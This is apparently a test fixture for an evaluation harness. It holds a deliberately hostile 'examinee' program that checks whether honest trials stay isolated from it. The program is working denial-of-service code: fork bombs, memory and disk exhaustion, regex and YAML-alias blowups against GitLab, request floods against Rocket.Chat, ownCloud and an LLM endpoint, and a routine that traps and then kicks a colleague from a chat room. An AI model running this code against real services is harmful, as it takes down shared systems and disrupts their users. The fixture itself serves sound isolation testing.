"""An examinee that does everything at once to harm others: what a run with honest trials beside it must not notice.

`PROGRAM` is what it runs. Every part is a process of its own that goes on until it is ended; none may gain a point,
void the trial, or slow down anybody else's.
"""

from __future__ import annotations

import json
from textwrap import dedent

SERVICES = "- rocketchat\n- gitlab\n- plane\n- owncloud\n"

PROGRAM = dedent(
    r'''
    import base64, json, os, socket, subprocess, sys, threading, time
    import requests

    HOST = os.environ["SERVER"]
    CHAT, FORGE, DRIVE = (f"http://{HOST}:{port}" for port in (3000, 8929, 8092))
    USER, PASSWORD = os.environ["WHO"], os.environ["SECRET"]
    COLLEAGUE = os.environ["COLLEAGUE"]

    def part(work):
        """Run it in a process of its own, over and over."""
        if os.fork() == 0:
            try:
                while True:
                    try:
                        work()
                    except Exception as error:
                        time.sleep(0.05)
            finally:
                os._exit(0)

    def forge():
        web = requests.Session()
        login = web.post(f"{FORGE}/oauth/token", timeout=20,
                         data={"grant_type": "password", "username": USER, "password": PASSWORD})
        web.headers["Authorization"] = f"Bearer {login.json()['access_token']}"
        return web

    def project(web, name):
        made = web.post(f"{FORGE}/api/v4/projects", json={"name": name, "initialize_with_readme": True}, timeout=20)
        if made.status_code == 201:
            return made.json()["id"]
        return web.get(f"{FORGE}/api/v4/projects", params={"search": name}, timeout=20).json()[0]["id"]

    def commit(web, number, path, text, **more):
        files = [{"action": "create", "file_path": path, "content": text}]
        body = {"branch": "main", "commit_message": "x", "actions": files, **more}
        return web.post(f"{FORGE}/api/v4/projects/{number}/repository/commits", json=body, timeout=60)

    def burn():
        while True:
            pass

    def swell():
        held = []
        while True:
            held.append(bytearray(32 << 20))

    def multiply():
        while True:
            if os.fork() == 0:
                time.sleep(600)

    def fill_disk():
        with open("/workspace/fill", "ab") as file:
            while True:
                file.write(b"x" * (8 << 20))

    def link():
        with open("/workspace/big", "wb") as file:
            file.write(b"y" * (30 << 20))
        for number in range(2000):
            os.link("/workspace/big", f"/workspace/link{number}")

    def hold_descriptors():
        pairs = []
        while True:
            a, b = socket.socketpair()
            pairs.append((a, b))
            for _ in range(200):
                socket.send_fds(a, [b"x"], [0] * 250)

    def expressions():
        web = forge()
        number = project(web, "expressions")
        web.post(f"{FORGE}/api/v4/projects/{number}/repository/branches", timeout=20,
                 params={"branch": "a" * 48 + "b", "ref": "main"})
        while True:
            web.get(f"{FORGE}/api/v4/projects/{number}/repository/branches", params={"regex": "^(a+)+$"}, timeout=60)

    def aliases():
        web = forge()
        number = project(web, "aliases")
        lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x]"]
        lines += [f"a{n}: &a{n} [{','.join(f'*a{n - 1}' for _ in range(9))}]" for n in range(1, 10)]
        text = "\n".join(lines) + "\njob:\n  script: *a9\n"
        commit(web, number, ".gitlab-ci.yml", text)
        while True:
            web.post(f"{FORGE}/api/v4/projects/{number}/ci/lint", json={"content": text}, timeout=60)
            web.post(f"{FORGE}/api/v4/projects/{number}/pipeline", params={"ref": "main"}, timeout=60)

    def large_texts():
        web = forge()
        number = project(web, "texts")
        table = "|a" * 50 + "|\n" + "|-" * 50 + "|\n" + ("|x" * 50 + "|\n") * 3000
        lines = "\n".join(str(n) for n in range(150_000))
        commit(web, number, "a.txt", lines)
        web.put(f"{FORGE}/api/v4/projects/{number}/repository/files/a.txt", timeout=60,
                json={"branch": "main", "commit_message": "x", "content": lines.replace("1", "2")})
        while True:
            web.post(f"{FORGE}/api/v4/markdown", json={"text": table}, timeout=60)
            web.get(f"{FORGE}/api/v4/projects/{number}/repository/compare", params={"from": "main~1", "to": "main"},
                    timeout=60)
            web.post(f"{FORGE}/api/v4/projects/{number}/issues", json={"title": "x", "description": table}, timeout=60)

    def upload():
        web = requests.Session()
        web.auth = (USER, PASSWORD)
        number = 0
        while True:
            number += 1
            web.put(f"{DRIVE}/remote.php/webdav/fill{number}.bin", data=(b"z" * (1 << 20) for _ in range(200)),
                    timeout=120)

    def flood_the_journal():
        web = requests.Session()
        while True:
            web.get(f"{CHAT}/api/v1/{'x' * 60_000}", timeout=20)

    def flood_chat():
        web = requests.Session()
        login = web.post(f"{CHAT}/api/v1/login", json={"user": USER, "password": PASSWORD}, timeout=20).json()["data"]
        web.headers |= {"X-Auth-Token": login["authToken"], "X-User-Id": login["userId"]}
        name = f"trap{time.time_ns()}"
        room = web.post(f"{CHAT}/api/v1/groups.create", json={"name": name, "members": [COLLEAGUE]}, timeout=20)
        room = room.json()["group"]["_id"]
        web.post(f"{CHAT}/api/v1/chat.postMessage", json={"roomId": room, "text": f"@{COLLEAGUE} what is the word?"},
                 timeout=20)
        for end in ("groups.kick", "groups.archive", "groups.setReadOnly", "groups.delete"):
            web.post(f"{CHAT}/api/v1/{end}", timeout=20,
                     json={"roomId": room, "username": COLLEAGUE, "readOnly": True})

    def sockets():
        held = []
        while True:
            one = socket.create_connection((HOST, 3000), 10)
            one.sendall(b"GET /websocket HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(os.urandom(16))
                        + b"\r\n\r\n")
            one.sendall(os.urandom(4096))
            held.append(one)

    def models():
        web = requests.Session()
        deep = "[" * 100_000
        while True:
            web.post("http://llm.test:4000/v1/chat/completions", data=deep, timeout=20)
            web.post("http://llm.test:4000/v1/chat/completions", data=b"x" * (64 << 20), timeout=20)

    def print_much():
        while True:
            print("x" * 100_000, flush=True)

    for work in (expressions, aliases, large_texts, upload, flood_the_journal, flood_chat, sockets, models, fill_disk,
                 link, hold_descriptors, print_much, burn, burn, burn, burn, swell):
        part(work)
    time.sleep(float(os.environ["FOR"]))
    part(multiply)
    time.sleep(3)
    '''
)


def scenarios(name: str) -> str:
    """A colleague who knows the word, for `scenarios.json`."""
    return json.dumps({name: {"script": [{"on": {"topic": "word"}, "reply": "shipshape"}]}})


def solution(host: str, user: str, password: str, colleague: str, seconds: float) -> str:
    """The program as a task's solution."""
    settings = {"SERVER": host, "WHO": user, "SECRET": password, "COLLEAGUE": colleague, "FOR": str(seconds)}
    return f"import os\nos.environ.update({settings!r})\n{PROGRAM}"
